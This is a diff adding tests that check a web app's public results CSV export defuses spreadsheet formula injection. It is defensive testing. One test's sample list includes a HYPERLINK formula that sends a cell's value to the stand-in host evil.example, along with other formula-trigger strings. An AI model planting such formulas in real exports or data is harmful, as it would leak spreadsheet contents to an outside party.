@@ -447,3 +447,34 @@ def test_two_first_tracking_saves_at_once_make_one_row(app):
         == [DONE] * 2
     )
     assert db.session.scalar(select(func.count()).select_from(ProjectTracking)) == 1
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+
+
+def test_the_public_results_csv_neutralises_formulas_in_every_text_cell(app, client):
+    process, budget, proposals = _vote(n_voters=10, n_proposals=len(FORMULAS))
+    for proposal, title in zip(proposals, FORMULAS, strict=True):
+        proposal.title = title
+    db.session.commit()
+    staff, _job = _count(process)
+    services.publish(staff, process)
+    db.session.commit()
+    text = client.get(f"/processes/{process.slug}/results/{budget.id}/results.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    assert sorted(row[1] for row in rows) == sorted("'" + title for title in FORMULAS)
+    assert all(row[2].isdigit() and row[3].isdigit() for row in rows)  # numbers stay numbers
+
+
+def test_spreadsheet_safe_leaves_numbers_and_plain_text_alone():
+    from participate.core.csv_export import csv_text, spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in (-5, 3.5, "Park", "a=b", "", None)] == [
+        -5,
+        3.5,
+        "Park",
+        "a=b",
+        "",
+        None,
+    ]
+    assert csv_text(["=h"], [["-x", -1], ["a\rb", 2]]) == "'=h\r\n'-x,-1\r\n\"a\rb\",2\r\n"
